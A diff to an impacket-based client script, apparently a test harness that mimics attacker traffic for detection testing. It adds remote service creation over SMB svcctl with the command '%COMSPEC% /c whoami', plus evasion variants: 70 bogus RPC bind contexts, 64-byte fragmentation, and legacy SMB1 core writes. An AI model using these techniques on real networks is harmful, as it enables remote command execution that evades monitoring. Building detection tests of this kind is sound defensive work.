@@ -8,6 +8,11 @@ impacket; this file only chooses the calls, as an attacker's script would.
   netrjobadd HOST            ATSVC NetrJobAdd over \\PIPE\\atsvc (SMB)
   epm HOST                   endpoint mapper ept_map for ITaskSchedulerService on 135
   smb1-svcctl HOST           svcctl OpenSCManagerW + RCreateServiceW over SMB1
+  svcctl-contexts HOST       over \\PIPE\\svcctl (SMB2): a bind of 70 junk contexts before svcctl,
+                             an alter_context adding svcctl as a new context, then
+                             OpenSCManagerW + RCreateServiceW on it in 64-byte fragments
+  smb1-write-read HOST       svcctl over SMB1 written with the core SMB_COM_WRITE (0x0B)
+                             instead of WRITE_ANDX (answers read with READ_ANDX)
 """
 import logging
 import sys
@@ -99,10 +104,50 @@ def smb1_svcctl(host):
     dce.disconnect()
 
 
+def create_service(dce, name):
+    handle = scmr.hROpenSCManagerW(dce)["lpScHandle"]
+    try:
+        scmr.hRCreateServiceW(dce, handle, name + "\x00", name + "\x00",
+                              lpBinaryPathName="%COMSPEC% /c whoami\x00")
+    except DCERPCException as error:  # Samba does not implement it: the request is what matters
+        logging.info("RCreateServiceW: %s", error)
+
+
+def svcctl_contexts(host):
+    smb = SMBConnection(host, host)
+    smb.login(USER, PASSWORD, DOMAIN)
+    rpctransport = transport.SMBTransport(host, filename=r"\svcctl", smb_connection=smb)
+    dce = rpctransport.get_dce_rpc()
+    dce.connect()
+    # impacket's own evasion knob: random interface UUIDs proposed before the real one.
+    dce.bind(scmr.MSRPC_UUID_SCMR, bogus_binds=70)
+    altered = dce.alter_ctx(scmr.MSRPC_UUID_SCMR)
+    altered.set_max_fragment_size(64)
+    create_service(altered, "HwSvc2")
+    dce.disconnect()
+
+
+def smb1_write_read(host):
+    smb = SMBConnection(host, host, preferredDialect=SMB_DIALECT)
+    smb.login(USER, PASSWORD, DOMAIN)
+    core = smb.getSMBServer()
+    # The transport writes the pipe through writeFile: route it to the core command (impacket's
+    # SMB.write). Samba answers the core SMB_COM_READ on a pipe with STATUS_ACCESS_DENIED, so
+    # the answers are read with READ_ANDX as usual.
+    smb.writeFile = lambda tid, fid, data, offset=0: core.write(tid, fid, data, offset)
+    rpctransport = transport.SMBTransport(host, filename=r"\svcctl", smb_connection=smb)
+    dce = rpctransport.get_dce_rpc()
+    dce.connect()
+    dce.bind(scmr.MSRPC_UUID_SCMR)
+    create_service(dce, "HwSvc3")
+    dce.disconnect()
+
+
 def main():
     logging.basicConfig(level=logging.INFO, format="client: %(message)s")
     what, args = sys.argv[1], sys.argv[2:]
-    {"tsch-tcp": tsch_tcp, "netrjobadd": netrjobadd, "epm": epm_lookup, "smb1-svcctl": smb1_svcctl}[what](*args)
+    {"tsch-tcp": tsch_tcp, "netrjobadd": netrjobadd, "epm": epm_lookup, "smb1-svcctl": smb1_svcctl,
+     "svcctl-contexts": svcctl_contexts, "smb1-write-read": smb1_write_read}[what](*args)
 
 
 if __name__ == "__main__":
